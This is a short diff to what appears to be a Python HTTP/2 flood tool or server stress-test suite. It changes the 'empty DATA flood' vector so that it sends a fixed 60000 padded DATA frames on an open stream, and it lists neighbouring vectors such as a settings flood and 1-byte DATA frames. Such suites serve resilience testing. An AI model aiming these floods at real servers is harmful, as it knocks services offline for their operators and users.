@@ -39,8 +39,9 @@ def settings_flood(attack):
 @vector(16, "empty DATA flood", cpu=1.0, cut=True)
 def empty_data(attack):
     attack.flood("on an open stream", open_call(attack) + h2.frame(h2.DATA, 0, 1) * attack.dose(2000000))
+    # As many as the first window holds.
     padded = h2.frame(h2.DATA, h2.PADDED, 1, b"\0")
-    attack.flood("padding only", open_call(attack) + padded * attack.dose(60000))
+    attack.flood("padding only", open_call(attack) + padded * 60000)
 
 
 @vector(17, "1-byte DATA", cpu=1.5, cut=True)
